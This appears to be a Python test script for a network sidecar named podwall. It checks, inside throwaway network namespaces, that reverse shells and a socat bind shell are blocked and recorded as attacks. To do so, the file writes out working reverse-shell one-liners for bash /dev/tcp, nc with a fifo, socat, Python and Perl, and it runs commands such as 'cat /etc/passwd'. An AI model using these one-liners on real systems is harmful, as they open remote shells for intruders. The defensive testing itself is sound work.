"""Reverse shells on a port that is granted to raw TCP.

    tests/.venv/bin/python tests/shells.py target/release/podwall

One line per check: `ok NAME`, `FAIL NAME: why`, `SKIPPED NAME: why`. Exit code 1 when one failed. Needs root: everything
happens in network namespaces that it makes and removes itself. Each shell is tried past the sidecar first: it is a real one.
"""

import contextlib
import re
import shutil
import socket
import sys
import tempfile
from pathlib import Path

from clients_kit.checks import Failed, Skipped, Tally, expect
from clients_kit.programs import Podwall, Program, free_port, until
from egress_kit.world import OTHER, World

PORT = 7001
COMMANDS = ("id", "uname -a", "ls /", "cat /etc/passwd")
OUTPUT = re.compile(rb"uid=\d|Linux \S+ \d|^(bin|etc|usr|var)\r?$|^root:.*:0:0:", re.M)
LISTENER = """\
import socket, sys, time
command, log = sys.argv[1].encode(), sys.argv[2]
listener = socket.create_server((sys.argv[3], int(sys.argv[4])), reuse_port=True)
open(log + ".ready", "w").close()
client, _ = listener.accept()
client.settimeout(0.5)
heard, asked, end = b"", False, time.monotonic() + 4
while time.monotonic() < end:
    if not asked:
        time.sleep(0.7)
        client.sendall(command + b"\\n")
        asked = True
    try:
        piece = client.recv(65536)
        if not piece:
            break
        heard += piece
    except TimeoutError:
        pass
    except OSError:
        break
open(log, "wb").write(heard)
"""
PYTHON = (
    "import os,socket,subprocess;s=socket.create_connection(('{host}',{port}));"
    "[os.dup2(s.fileno(),n) for n in (0,1,2)];subprocess.call(['/bin/sh'])"
)
PYTHON_PTY = (
    "import os,pty,socket;s=socket.create_connection(('{host}',{port}));"
    "[os.dup2(s.fileno(),n) for n in (0,1,2)];pty.spawn('/bin/sh')"
)
PERL = (
    "use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in({port},inet_aton('{host}')));"
    "open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh');"
)
SHELLS = {
    "bash": ["bash", "-c", "sh </dev/tcp/{host}/{port} >&0 2>&0"],
    "bash, interactive": ["bash", "-c", "bash -i >& /dev/tcp/{host}/{port} 0>&1"],
    "nc": ["sh", "-c", "rm -f {folder}/p; mkfifo {folder}/p; sh <{folder}/p 2>&1 | nc {host} {port} >{folder}/p"],
    "socat": ["socat", "TCP:{host}:{port}", "EXEC:/bin/sh"],
    "socat, terminal": ["socat", "TCP:{host}:{port}", "EXEC:/bin/sh,pty,stderr,setsid,sigint,sane"],
    "python": [sys.executable, "-c", PYTHON],
    "python, terminal": [sys.executable, "-c", PYTHON_PTY],
    "perl": ["perl", "-e", PERL],
}


def heard(world, name, shell, command, host, port, inside):
    """What a listener hears of a shell that is asked for a command's output."""
    log = world.folder / f"heard-{abs(hash((name, command, host, port)))}"
    words = [*inside, sys.executable, "-c", LISTENER, command, str(log), host, str(port)]
    from clients_kit.programs import Program

    listener = Program(words, world.folder / "listener.log")
    world.made.callback(listener.end)
    until("the listener", Path(f"{log}.ready").exists)
    folder = world.folder / f"shell-{abs(hash((name, command, host)))}"
    folder.mkdir(exist_ok=True)
    words = [word.replace("{host}", host).replace("{port}", str(port)).replace("{folder}", str(folder)) for word in shell]
    where = world.inside(world.pod) if host == OTHER else inside
    client = Program([*where, *words], world.folder / "shell.log")
    world.made.callback(client.end)
    listener.process.wait(20)
    client.end()
    return log.read_bytes() if log.exists() else b""


def reverse_shell(world, name):
    shell = SHELLS[name]
    if shutil.which(shell[0]) is None or "nc " in shell[-1] and shutil.which("nc") is None:
        raise Skipped(f"no {shell[0]}")
    past = heard(world, name, shell, "id", "127.0.0.1", PORT, world.inside(world.far))
    if b"uid=" not in past:
        raise Failed(f"no shell where nobody cuts it: {past!r}")
    for command in COMMANDS:
        got = heard(world, name, shell, command, OTHER, PORT, world.inside(world.far))
        if found := OUTPUT.search(got):
            raise Failed(f"output of {command} came through: {found.group(0)!r}")
    world.sidecar.recorded(reason="attack-detected", port=PORT)


class Served(Podwall):
    """A sidecar before an application that speaks what nobody takes apart."""

    def __init__(self, binary, folder, upstream):
        folder.mkdir()
        self.inside, self.record, self.admin_port, self.port = [], folder / "record.jsonl", free_port(), free_port()
        (folder / "allowlist.yaml").write_text(
            "apiVersion: podwall.dev/v1\nkind: Allowlist\nmetadata: {name: served}\nowner: team-tests\n"
            "inbound: [tcp from 127.0.0.1]\n")
        (folder / "podwall.yaml").write_text(f"""\
apiVersion: podwall.dev/v1
kind: Podwall
listeners:
- {{listen: "127.0.0.1:{self.port}", tls: off, protocol: tcp, upstream: "127.0.0.1:{upstream}"}}
allowlists: [{folder}/allowlist.yaml]
record: {{file: {{path: {self.record}}}, aggregate_interval: 1s}}
admin: {{listen: "127.0.0.1:{self.admin_port}"}}
workers: 2
""")
        Program.__init__(self, [binary, "run", "--config", folder / "podwall.yaml"], folder / "podwall.log")


def asked(port, said, source="127.0.0.1"):
    """What comes back within two seconds."""
    heard = b""
    try:
        with socket.create_connection(("127.0.0.1", port), 5, (source, 0)) as client:
            client.settimeout(2)
            client.sendall(said)
            while piece := client.recv(65536):
                heard += piece
    except OSError:
        pass
    return heard


def bind_shell(binary, folder, made):
    """A shell that listens behind a port of the application: a caller gets no line of its output."""
    if shutil.which("socat") is None:
        raise Skipped("no socat")
    port = free_port()
    made.callback(Program(["socat", f"TCP-LISTEN:{port},fork,reuseaddr", "EXEC:/bin/sh,stderr"], folder / "socat.log").end)
    until("the shell", lambda: b"uid=" in asked(port, b"id\n"))
    sidecar = Served(binary, folder / "bound", port)
    made.callback(sidecar.end)
    sidecar.wait_ready()
    for command in COMMANDS:
        if found := OUTPUT.search(asked(sidecar.port, command.encode() + b"\n")):
            raise Failed(f"output of {command} came through: {found.group(0)!r}")
    sidecar.recorded(reason="attack-detected", direction="inbound")


def served_bytes(binary, folder, made):
    """Other bytes pass, for whom it is granted; HTTP does not."""
    port = free_port()
    made.callback(Program(["socat", f"TCP-LISTEN:{port},fork,reuseaddr", "EXEC:/bin/cat"], folder / "cat.log").end)
    until("the echo", lambda: asked(port, b"a") == b"a")
    sidecar = Served(binary, folder / "served-bytes", port)
    made.callback(sidecar.end)
    sidecar.wait_ready()
    expect("echo", asked(sidecar.port, b"\x01any bytes"), b"\x01any bytes")
    expect("stranger", asked(sidecar.port, b"\x01any bytes", "127.0.0.9"), b"")
    sidecar.recorded(reason="policy-no-rule", action="connect")
    expect("http", asked(sidecar.port, b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"), b"")
    sidecar.recorded(reason="tcp-protocol", detail="http1 on a port declared to speak tcp")


def main():
    binary, tally = Path(sys.argv[1]).resolve(), Tally()
    with contextlib.ExitStack() as made:
        folder = Path(made.enter_context(tempfile.TemporaryDirectory(prefix="podwall-shells-")))
        tally.check("bytes of an application, inbound", served_bytes, binary, folder, made)
        tally.check("shell that listens", bind_shell, binary, folder, made)
        worlds = []
        tally.check("shells: a pod and a world", lambda: worlds.append(World(binary, folder, made)))
        for world in worlds:
            for name in SHELLS:
                tally.check(f"shell: {name}", reverse_shell, world, name)
    tally.finish()


if __name__ == "__main__":
    main()
